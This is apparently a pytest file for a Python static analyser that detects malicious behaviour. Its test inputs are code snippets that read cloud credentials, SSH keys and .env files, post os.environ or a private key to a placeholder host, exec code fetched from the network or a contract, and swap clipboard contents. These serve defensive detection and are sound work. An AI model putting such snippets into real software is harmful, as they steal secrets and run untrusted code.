"""What is followed through Python's own indirections: listings, fields, threads, and things known by another name."""

import pytest

from lazaretto.core.facts import Kind, Moment
from tests.languages.python_reading import flows, read, values


@pytest.mark.parametrize(
    ("code", "path"),
    [
        ("from pathlib import Path\nfor p in (Path.home() / '.aws').glob('*'):\n    p.read_bytes()\n", "~/.aws/*"),
        ("from pathlib import Path\n[p.read_bytes() for p in Path('/x/y').iterdir()]\n", "/x/y/{}"),
        ("import glob\nfor p in glob.glob('/x/*.pem'):\n    open(p).read()\n", "/x/*.pem"),
        ("from pathlib import Path\nnext(Path('/x').rglob('id_rsa')).read_text()\n", "/x/id_rsa"),
        (
            (
                "import os\nfor top, _, names in os.walk(os.path.expanduser('~/src')):\n"
                "    open(os.path.join(top, 'a.txt')).read()\n"
            ),
            "~/src/{}/a.txt",
        ),
    ],
)
def test_what_lies_in_a_folder_has_its_path(code: str, path: str) -> None:
    """Only the names in it are not known."""
    assert path in values(read(code), Kind.FS_READ)


def test_a_walk_through_nothing_known_tells_nothing() -> None:
    """Neither here nor there."""
    assert values(read("import os\nfor top, _, names in os.walk():\n    open(top + '/a')\n"), Kind.FS_READ) == ["{}/a"]


_FIELD = "import os, http.client\nfrom dataclasses import dataclass, field\n\n@dataclass\nclass Beat:\n"


def test_a_field_is_made_when_an_object_is() -> None:
    """And a class that nobody makes an object of makes none."""
    made = (
        "    data: dict = field(default_factory=lambda: dict(os.environ))\n    host: str = field(default='a.invalid')\n"
    )
    sends = "    def __post_init__(self):\n        c = http.client.HTTPSConnection(self.host)\n"
    sends += "        c.request('POST', '/', str(self.data))\n"
    facts = read(_FIELD + made + sends + "\nBeat()\n")

    assert (Kind.ENV_DUMP, Kind.NET_CONNECT) in flows(facts)
    assert values(facts, Kind.NET_CONNECT) == ["a.invalid"]
    assert values(read(_FIELD + made), Kind.ENV_DUMP, Moment.LOAD) == []


def test_a_field_that_is_handed_over_by_name_is_not_made() -> None:
    """What is handed over is the field."""
    facts = read(
        "import requests\nfrom attrs import define, field\n@define\nclass A:\n    url: str = field(factory=str)\n"
        "    def go(self):\n        requests.get(self.url)\nA(url='https://a.invalid').go()\n"
    )

    assert "https://a.invalid" in values(facts, Kind.NET_CONNECT)


def test_a_thread_is_given_its_words_by_name() -> None:
    """``kwargs`` are arguments like ``args``; and a key is followed there."""
    facts = read(
        "import threading, requests\ndef sign(private_key):\n"
        "    named = {'json': {'m': private_key}}\n"
        "    threading.Thread(target=requests.post, args=('https://a.invalid',), kwargs=named).start()\n"
    )

    assert (Kind.KEY_GIVEN, Kind.NET_CONNECT) in flows(facts)


@pytest.mark.parametrize("name", ["key", "seed", "name"])
def test_a_parameter_of_another_name_is_no_key(name: str) -> None:
    """Nor is a key told that goes nowhere."""
    sent = f"import requests\ndef f({name}):\n    requests.post('https://a.invalid', data={name})\n"

    assert values(read(sent), Kind.KEY_GIVEN) == []
    assert values(read("import requests\ndef f(private_key):\n    return len(private_key)\n"), Kind.KEY_GIVEN) == []


@pytest.mark.parametrize(
    ("code", "kind", "value"),
    [
        ("import subprocess, shutil\nsubprocess.run([shutil.which('uvx'), 'a'])", Kind.PROCESS_SPAWN, "{}/uvx a"),
        ("import subprocess, shutil\nsubprocess.run([shutil.which(x), 'a'])", Kind.PROCESS_SPAWN, "{} a"),
        ("import boto3\nboto3.client('s').get_secret_value(SecretId='a')", Kind.SECRET_READ, "boto3 credentials"),
        ("import dotenv\ndotenv.dotenv_values()", Kind.SECRET_READ, ".env"),
        ("import dotenv\ndotenv.dotenv_values('x.cfg')", Kind.SECRET_READ, ".env"),
        ("import dotenv\ndotenv.dotenv_values('a/.env')", Kind.SECRET_READ, "a/.env"),
        ("import subprocess\nsubprocess.run(['gh', 'api', x])", Kind.NET_CONNECT, "https://api.github.com"),
        ("from PIL import Image\nexec(Image.open('/x/a.png').tobytes())", Kind.FS_READ, "/x/a.png"),
    ],
)
def test_what_things_are_by_another_name(code: str, kind: Kind, value: str) -> None:
    """Programs that are looked for, stores of keys in a cloud, clients of a service, pictures."""
    assert value in values(read(code + "\n"), kind)


def test_a_clipboard_of_a_window_is_exchanged() -> None:
    """Read, and something else put in its place."""
    facts = read("import tkinter\nr = tkinter.Tk()\nc = r.clipboard_get()\nr.clipboard_append('x')\n")

    assert values(facts, Kind.USER_WATCH) == ["clipboard", "clipboard exchanged"]


@pytest.mark.parametrize(
    "code",
    [
        "import io, wave, urllib.request\nexec(wave.open(io.BytesIO(urllib.request.urlopen('https://a.invalid').read())).readframes(1))",
        "from web3 import Web3\nw = Web3(Web3.HTTPProvider('https://a.invalid'))\nexec(w.eth.contract(a).functions.get().call())",
    ],
)
def test_what_came_from_the_network_still_does(code: str) -> None:
    """Through the libraries that read a sound, and those that ask a chain."""
    assert (Kind.NET_CONNECT, Kind.CODE_EVAL) in flows(read(code + "\n"))


@pytest.mark.parametrize(
    "code",
    [
        "for n in os.listdir('.'):\n    if n in ('.env', '.npmrc'):\n        open(n)\n",
        "[open(n) for n in os.listdir('.') if n in {'.env', '.npmrc'}]\n",
        "def g():\n    yield from (n for n in x if n in {'.env', '.npmrc'})\nfor n in g():\n    open(n)\n",
        "def g():\n    yield from ['.env', '.npmrc']\nfor n in g():\n    open(n)\n",
    ],
)
def test_a_name_that_is_one_of_a_few_is_each_of_them(code: str) -> None:
    """A test says so, and what is made of it is gone through somewhere else."""
    assert values(read("import os\n" + code), Kind.SECRET_READ) == [".env", ".npmrc"]


@pytest.mark.parametrize("among", ["names", "'abc'", "(1, 2)", "range(9)", "{**x}", str([f"n{n}" for n in range(17)])])
def test_a_name_that_may_be_anything_is_nothing(among: str) -> None:
    """Containers that are not known, hold no texts, or too many."""
    facts = read(f"import os\nfor n in os.listdir('.'):\n    if n in {among}:\n        open(n)\n")

    assert values(facts, Kind.FS_READ) == [None]


@pytest.mark.parametrize(
    ("given", "loaded"),
    [
        ("HERE + '/a.npy', allow_pickle=True", ["./a.npy"]),
        ("HERE + '/a.npy'", []),
        ("HERE + '/a.npy', allow_pickle=False", []),
        ("x, None, True", []),
    ],
)
def test_an_array_of_objects_is_loaded_like_a_module(given: str, loaded: list[str]) -> None:
    """It is a pickle, and runs."""
    facts = read(f"import os, numpy\nHERE = os.path.dirname(__file__)\nnumpy.load({given})\n")

    assert [name for name in values(facts, Kind.IMPORT) if name and name[:1] == "."] == loaded
